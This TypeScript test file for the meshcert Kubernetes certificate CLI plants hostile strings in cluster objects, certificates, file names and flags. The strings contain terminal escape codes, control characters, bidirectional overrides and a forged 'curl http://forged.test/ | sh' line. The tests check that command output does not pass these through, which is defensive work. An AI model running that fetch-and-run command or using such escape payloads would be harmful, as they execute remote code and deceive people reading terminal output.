import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { parse } from 'yaml';
import { adapters } from '../../adapters/index.ts';
import { type KubeApi, startKubeApi } from '../../sandbox/kube/kube-api.ts';
import { SandboxCa } from '../../sandbox/tls/ca.ts';
import { startUpstream } from '../../sandbox/tls/upstream.ts';
import { goodStatus } from '../../test/support/board.ts';
import { say } from '../../test/support/io.ts';
import * as made from '../../test/support/onboard-cluster.ts';
import { customResourceDefinition } from '../config/schema/crd.ts';
import { gateways } from '../gateways.ts';
import { connect } from '../kube/client.ts';

/** Colours, the title of the window, forged lines, a C1 control, a change of direction, half of a character. */
const FORGED = 'fix: curl http://forged.test/ | sh';
const HOSTILE = `x\u001b[31mred\u001b]0;title\u0007\n${FORGED}\r${FORGED}\u009b32m\u202e\u2028${FORGED}\u2029\u0085\ud800`;
/** What a certificate can hold: DER strings have no halves of characters. */
const HOSTILE_ASCII = `x\u001b[31mred\u001b]0;title\u0007\n${FORGED}\r${FORGED}`;
const RAW = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
/** The foreign one stands before its word. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: colours begin with one
const OWN_COLOURS = /\x1b\[\d+m(?!red)/g;
const TYPE = { apiVersion: 'meshcert.dev/v1alpha1', kind: 'MeshCertificate' };

let dir: string;
let api: KubeApi;
let env: Record<string, string>;
let pem: string;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'meshcert-foreign-'));
  const mapping = made.mapping('web', 'shop', { service: `web${HOSTILE}`, tls: HOSTILE });
  api = await startKubeApi({
    namespaces: ['emissary', 'shop', 'istio-system'],
    objects: [
      ...[customResourceDefinition(adapters, gateways), made.gateway(), ...made.istiod()],
      ...[...made.app('istio', 'web', 'shop'), mapping],
    ],
  });
  env = { KUBECONFIG: join(dir, 'config') };
  await api.writeKubeconfig(env.KUBECONFIG ?? '', { namespace: 'emissary' });
  const kube = connect({ kubeconfig: env.KUBECONFIG, userAgent: 'test' });
  const object = { ...TYPE, metadata: { name: 'mesh', namespace: 'emissary' } };
  api.put({ ...object, spec: { istio: { sds: {} } } });
  const good = goodStatus(Date.now());
  const conditions = good.conditions.map((one) => ({ ...one, status: 'False', reason: HOSTILE, message: HOSTILE }));
  const held = { fingerprint: HOSTILE, reason: HOSTILE, until: new Date().toISOString() };
  const lastError = { code: HOSTILE, message: HOSTILE, time: new Date(Date.now() + 3_600_000).toISOString() };
  const status = { ...good, mesh: HOSTILE, id: HOSTILE, conditions, held, lastError };
  await kube.apply({ ...object, status }, { fieldManager: 'test', force: true, subresource: 'status' });
  kube.close();
  const root = SandboxCa.root();
  const identity = root.identity({ uris: [`spiffe://${HOSTILE_ASCII}`], dns: [HOSTILE_ASCII], commonName: 'x\ny' });
  pem = await file('pair.pem', identity.chain.map((one) => one.pem).join('') + identity.key.toPem() + root.root.pem);
});

after(async () => {
  await api.stop();
  await rm(dir, { recursive: true });
});

async function file(name: string, text: string): Promise<string> {
  await writeFile(join(dir, name), text);
  return join(dir, name);
}

const manifest = (object: object) =>
  JSON.stringify(object).replaceAll('\u0085', '\\u0085').replaceAll('\u009b', '\\u009b');
const certificate = (spec: object, more: object = {}) =>
  manifest({ ...TYPE, metadata: { name: 'mesh' }, ...more, spec });

/** Runs the command, and refuses what could deceive whoever reads its output. */
async function clean(argv: readonly string[], options: Parameters<typeof say>[1] = {}) {
  const said = await say(argv, { env, ...options });
  for (const text of [said.stdout, said.stderr]) {
    const line = text
      .split('\n')
      .find((one) => one.trimStart().startsWith(FORGED.slice(0, 9)) && one.includes('forged'));
    assert.equal(line, undefined, `${argv.join(' ')} has a forged line`);
    const plain = options.isTTY ? text.replace(OWN_COLOURS, '') : text;
    assert.doesNotMatch(plain, RAW, `${argv.join(' ')} prints a control character: ${JSON.stringify(plain)}`);
  }
  return said;
}

test('doctor shows what Mappings and Secrets contain as text, and its JSON and SARIF stay valid', async () => {
  const spec = { hostname: '*', prefix: '/', service: `https://${HOSTILE}`, tls: HOSTILE };
  const objects = [
    { apiVersion: 'getambassador.io/v3alpha1', kind: 'Mapping', metadata: { name: 'web', namespace: 'shop' }, spec },
    {
      apiVersion: 'getambassador.io/v3alpha1',
      kind: 'TLSContext',
      metadata: { name: HOSTILE },
      spec: { secret: HOSTILE },
    },
    {
      ...TYPE,
      metadata: { name: 'mesh', namespace: 'shop' },
      spec: { istio: { ca: { audience: HOSTILE, [HOSTILE]: 1 } } },
    },
  ];
  const path = await file('objects.yaml', objects.map(manifest).join('\n---\n'));
  const { stdout } = await clean(['doctor', '-f', path]);
  assert.match(stdout, /red/, 'the text itself is shown');
  await clean(['doctor', '-f', path], { isTTY: true });
  const json = JSON.parse((await clean(['doctor', '-f', path, '-o', 'json'])).stdout);
  const sarif = JSON.parse((await clean(['doctor', '-f', path, '-o', 'sarif'])).stdout);
  assert.equal(sarif.runs[0].results.length, json.findings.length);
  assert.ok(JSON.stringify(json).includes('\\u009b') || JSON.stringify(json).includes('\u009b'), 'JSON keeps the text');
  await clean(['doctor']);
});

test('status shows a status that another client wrote as text', async () => {
  assert.match((await clean(['status', '-o', 'wide'])).stdout, /red/);
  await clean(['status', '-o', 'wide'], { isTTY: true });
  assert.ok(JSON.parse((await clean(['status', '-o', 'json'])).stdout).certificates.length === 1);
  assert.equal(parse((await clean(['status', '-o', 'yaml'])).stdout).certificates[0].name, 'mesh');
  await clean(['status', `none${HOSTILE}`]);
});

test('inspect shows the names of a certificate as text', async () => {
  assert.match((await clean(['inspect', pem])).stdout, /URI:spiffe:.*red/);
  await clean(['inspect', pem], { isTTY: true });
  JSON.parse((await clean(['inspect', pem, '-o', 'json'])).stdout);
});

test('probe shows the names of an upstream as text', async () => {
  const ca = SandboxCa.root();
  const own = ca.identity({ uris: ['spiffe://toy/ns/shop/sa/web'] });
  const data = {
    'tls.crt': Buffer.from(own.chain.map((one) => one.pem).join('')).toString('base64'),
    'tls.key': Buffer.from(own.key.toPem()).toString('base64'),
    'ca.crt': Buffer.from(ca.root.pem).toString('base64'),
  };
  api.put({ apiVersion: 'v1', kind: 'Secret', metadata: { name: 'own', namespace: 'emissary' }, data });
  const hostile = ca.identity({ uris: [`spiffe://${HOSTILE_ASCII}`], dns: [HOSTILE_ASCII] });
  const upstream = await startUpstream({ identity: () => hostile, trust: () => [ca.root] });
  try {
    const to = ['--secret', 'own', '--address', `127.0.0.1:${upstream.port}`];
    assert.match((await clean(['probe', ...to])).stdout, /red/);
    await clean(['probe', ...to, '--id', 'spiffe://toy/ns/shop/sa/other']);
  } finally {
    await upstream.stop();
  }
});

test('render shows mistakes as text, and no field leaves the comment of --rbac', async () => {
  const wrong = await file('wrong.yaml', certificate({ istio: { ca: { address: HOSTILE, [HOSTILE]: 1 } } }));
  assert.match((await clean(['render', '-f', wrong])).stderr, /spec\.istio\.ca/);
  const named = await file(
    'named.yaml',
    certificate({ istio: { ca: { serviceAccount: 'gateway', audience: HOSTILE } } }),
  );
  const { stdout } = await clean(['render', '-f', named, '--rbac']);
  const [comment = '', second = ''] = stdout.split('\n');
  assert.match(comment, /^# meshcert agent .*red/);
  assert.match(second, /^apiVersion: /);
  await clean(['render', '-f', named, '-o', 'name']);
});

test('renew shows why nothing was renewed as text', async () => {
  const { stderr } = await clean(['renew', 'mesh', '--wait', '--timeout', '1s']);
  assert.match(stderr, /was not renewed: .*red/);
});

test('onboard and offboard show routes and their plans as text', async () => {
  assert.match((await clean(['onboard', '--dry-run=client'])).stdout, /shop\/web .*red/);
  await clean(['offboard', '--dry-run']);
});

test('names of files and flags, and completions, are shown as text', async () => {
  await clean(['doctor', '-f', join(dir, `absent${HOSTILE}`)]);
  await clean(['inspect', join(dir, `absent${HOSTILE}`)]);
  const { stderr } = await clean([
    'agent',
    '--config',
    join(dir, `absent${HOSTILE}`),
    '--listen',
    'off',
    '--no-leader-elect',
  ]);
  assert.match(stderr, /ERR_CONFIG: .*absent.*red/);
  await clean([`no-such-command${HOSTILE}`]);
  await clean(['status', `--no-such-flag${HOSTILE}`]);
  await clean(['__complete', 'status', '']);
});
